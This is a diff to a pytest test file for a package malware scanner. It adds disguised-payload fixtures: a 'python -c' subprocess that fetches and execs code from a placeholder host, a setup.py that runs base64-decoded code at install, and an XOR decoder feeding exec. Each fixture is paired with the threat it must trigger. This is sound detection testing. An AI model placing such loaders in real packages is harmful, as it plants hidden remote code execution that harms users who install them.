@@ -129,6 +129,18 @@ DISGUISES: dict[str, dict[str, str]] = {
         "pkg/__init__.py": "import base64\n"
         f"globals()['__builtins__'].exec(base64.b64decode('{B64}'))\n",
     },
+    # Code handed to a child interpreter as ``python -c`` text.
+    "python_c_list_in_function": {
+        "pkg/run.py": "import subprocess, sys\ndef refresh():\n"
+        "    subprocess.Popen([sys.executable, '-c', \"import urllib.request as r; "
+        "exec(r.urlopen('https://cdn.example.invalid/p').read())\"])\n",
+        "pkg/__init__.py": "",
+    },
+    "python_c_shell_string_in_setup": {
+        "setup.py": "import os\nfrom setuptools import setup\n"
+        f"os.system('python3 -c \"import base64; exec(base64.b64decode(\\\\'{B64}\\\\'))\"')\n"
+        "setup(name='pkg', version='1.0')\n",
+    },
     # Keyed ciphers whose key sits in another variable.
     "shift_cipher_key_variable": {
         "pkg/__init__.py": f"OFFSET = 3\nblob = {_shift(STAGE, 3)!r}\n"
@@ -143,6 +155,12 @@ DISGUISES: dict[str, dict[str, str]] = {
         "def unmask(data, key):\n    return ''.join(chr(c ^ key) for c in data)\n"
         f"secret = 42\nexec(unmask({[b ^ 42 for b in STAGE.encode()]!r}, secret))\n"
         "setup(name='pkg', version='1.0')\n",
+    },
+    "home_made_decoder_function": {
+        "pkg/__init__.py": "def _d(s, k):\n    out = ''\n    for i, ch in enumerate(s):\n"
+        "        out += chr(ord(ch) ^ ord(k[i % len(k)]))\n    return out\n"
+        f"_K = 'pw'\n_B = {''.join(chr(ord(c) ^ ord('pw'[i % 2])) for i, c in enumerate(STAGE))!r}\n"
+        "exec(_d(_B, _K))\n",
     },
     # Stealers written in hex escapes.
     "hex_escaped_stealer": {
@@ -163,7 +181,26 @@ DISGUISES: dict[str, dict[str, str]] = {
     },
 }
 
-EXPECTED = ("chain.", "disguise.", "place.")
+# The threat each disguise must raise (any one of them): decoding then running is
+# chain.decode_exec whatever the layers; a disguise that hides no decoding is named as one.
+_DECODE_EXEC = ("chain.decode_exec",)
+EXPECTED: dict[str, tuple[str, ...]] = {
+    name: _DECODE_EXEC
+    for name in DISGUISES
+    if name.startswith(("alias_", "fernet_", "lambda_chain_", "shift_", "xor_", "home_made"))
+    or name in ("zlib_base64", "marshal_layers", "reversed_base64_variable")
+}
+EXPECTED |= {
+    "python_c_list_in_function": ("chain.remote_exec",),
+    "python_c_shell_string_in_setup": _DECODE_EXEC,
+    "lambda_chain_globals": ("disguise.obfuscation", "chain.decode_exec"),
+    "whitespace_semicolon": ("disguise.obfuscation",),
+    "whitespace_tabs_in_setup": ("disguise.obfuscation",),
+    "whitespace_own_line": ("disguise.obfuscation",),
+    "hex_escaped_stealer": ("disguise.obfuscation",),
+    "octal_escaped_names": ("disguise.obfuscation",),
+    "hex_escaped_exec": ("disguise.obfuscation", "chain.exfiltration"),
+}
 
 
 def scan(files: dict[str, str], tmp_path):
@@ -174,8 +211,26 @@ def scan(files: dict[str, str], tmp_path):
 
 
 @pytest.mark.parametrize("name", sorted(DISGUISES))
-def test_disguised_payload_is_high(name, tmp_path):
+def test_disguised_payload_is_high_with_its_threat(name, tmp_path):
     result = scan(DISGUISES[name], tmp_path)
-    ids = {t.id for t in result.threats if t.severity in ("high", "critical")}
-    print(name, result.risk.level, sorted(ids))
+    strong = {t.id for t in result.threats if t.severity in ("high", "critical")}
     assert result.risk.level in ("high", "critical"), (name, [t.id for t in result.threats])
+    assert strong & set(EXPECTED[name]), (name, sorted(strong))
+
+
+def test_every_disguise_names_the_threat_it_must_raise():
+    assert set(EXPECTED) == set(DISGUISES)
+
+
+def test_code_generated_from_a_readable_template_at_import_is_not_a_decoder(tmp_path):
+    """Record and struct libraries build methods from a source template at import; the template
+    reads as Python, so the function filling it in is no cipher."""
+    code = (
+        "TEMPLATE = '''def __init__(self, {args}):\n    for name in ({args},):\n"
+        "        pass\n    self._fields = ({args},)\n'''\n"
+        "def _fill(template, fields):\n    return template.format(args=', '.join(fields))\n"
+        "ns = {}\nexec(_fill(TEMPLATE, ['x', 'y']), ns)\n"
+    )
+    result = scan({"pkg/__init__.py": code}, tmp_path)
+    assert "chain.decode_exec" not in {t.id for t in result.threats}
+    assert result.risk.level not in ("high", "critical")
